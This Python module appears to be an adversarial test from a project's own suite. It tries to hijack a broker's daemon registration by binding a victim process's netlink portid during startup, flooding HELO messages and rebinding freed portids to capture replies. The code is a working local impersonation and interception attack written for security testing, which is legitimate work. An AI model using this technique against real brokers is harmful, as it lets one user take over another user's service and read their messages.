"""Tries to make the broker mistake the victim's daemon for the attacker's, by its portid, while it registers."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import time
from collections.abc import Sequence
from pathlib import Path

from tests.attacks import raw
from tests.attacks.attacker import Told

_STARTING = 20.0  # seconds from a daemon's start to its registration, at most
_TWO_LINKS = 4  # sockets: the attacker's and the victim's
_LOOKS = 200  # queries of the broker's status of the attacker's daemon
_ROUNDS = 2000  # attempts to bind portids that become free


def hijack(told: Told, folder: Path, victim: int, packets: Sequence[bytes]) -> None:
    """On the word "go" reports "ready", waits for a daemon of the uid `victim`, attacks, and reports the result.

    If the broker mistakes it for the attacker's daemon, sends requests `packets` to it. Then registers again, so that
    the broker sends QUIT to it and closes its end, and binds that portid to receive the answers."""
    links: list[raw.Link] = []
    while told.word() != "end":
        known = _processes()
        told.say("ready")
        told.say(_attack(folder, _started(victim, known), packets, links))
        for link in links:
            link.close()
        links.clear()


def _attack(folder: Path, pid: int, packets: Sequence[bytes], links: list[raw.Link]) -> dict[str, object]:
    public = folder / "portid"  # of a broker with registration by netlink
    binds = helos = 0
    deadline = time.monotonic() + _STARTING
    if not public.exists():
        links.append(raw.register(folder))
    own = {link.mine.getsockname()[0] for link in links}
    while time.monotonic() < deadline:
        seat = raw.bind(pid)
        if seat is None:
            break
        binds += 1
        there = raw.portids()
        with seat:
            helos += _helos(seat, {int(public.read_text())} if public.exists() else there)
        _graft(links, there)
        if not public.exists() and len(there) >= _TWO_LINKS:
            break
        time.sleep(0.001)
    with contextlib.closing(raw.connect(folder / "broker.sock")) as connection:
        hijacked = _hijacked(connection, own, 1 if own else _LOOKS)
        _graft(links, raw.portids())
        connection.settimeout(0.05)
        for seq, packet in enumerate(packets):
            with contextlib.suppress(OSError):
                connection.send(raw.request(seq, seq, os.getuid(), packet))
        known = raw.portids()
        with contextlib.suppress(OSError):
            links.append(raw.register(folder))
        got = _taken(known) + [data for data in _answers(connection) if data]
    return {"binds": binds, "helos": helos, "hijacked": hijacked, "got": [data.hex() for data in got]}


def _processes() -> set[int]:
    return {int(name) for name in os.listdir("/proc") if name.isdigit()}


def _started(victim: int, known: set[int]) -> int:
    """Waits for the next process of this uid. Returns its pid."""
    while True:
        for pid in sorted(_processes() - known):
            with contextlib.suppress(OSError):
                if b"\nUid:\t%d\t" % victim in Path(f"/proc/{pid}/status").read_bytes():
                    return pid


def _helos(seat: socket.socket, targets: set[int]) -> int:
    """Sends HELO to each until its queue is full. Returns how many were accepted."""
    sent = 0
    for target in targets:
        with contextlib.suppress(OSError):
            while True:
                seat.sendto(raw.control(raw.HELO), raw.DONTWAIT, (target, 0))
                sent += 1
    return sent


def _graft(links: Sequence[raw.Link], targets: set[int]) -> None:
    """Connects the broker's end of the attacker's link to other sockets, so that the broker's messages go there."""
    for link in links:
        if link.far is not None:
            for target in targets - {link.far.getsockname()[0]}:
                with contextlib.suppress(OSError):
                    link.far.connect((target, 0))
                    link.far.send(raw.control(raw.HELO), raw.DONTWAIT)


def _hijacked(connection: socket.socket, own: set[int], looks: int) -> bool:
    """Returns whether the broker reports a portid for the attacker's daemon that is not the attacker's."""
    for _ in range(looks):
        if answer := raw.ask(connection, b"", service=b"broker.status"):
            portids = {one["portid"] for one in json.loads(answer)["daemons"]} - own
            if portids and raw.bind(next(iter(portids))) is None:
                return True
        time.sleep(0.005)
    return False


def _taken(known: set[int]) -> list[bytes]:
    """Binds portids that become free. Returns the messages that arrive there."""
    held: list[socket.socket] = []
    got = []
    for _ in range(_ROUNDS):
        for portid in known - {one.getsockname()[0] for one in held}:
            if seat := raw.bind(portid):
                held.append(seat)
        for one in held:
            with contextlib.suppress(OSError):
                got.append(one.recv(raw.MOST, raw.DONTWAIT))
    for one in held:
        one.close()
    return got


def _answers(connection: socket.socket) -> list[bytes]:
    found = []
    with contextlib.suppress(OSError):
        while data := connection.recv(raw.MOST):
            found.append(data)
    return found
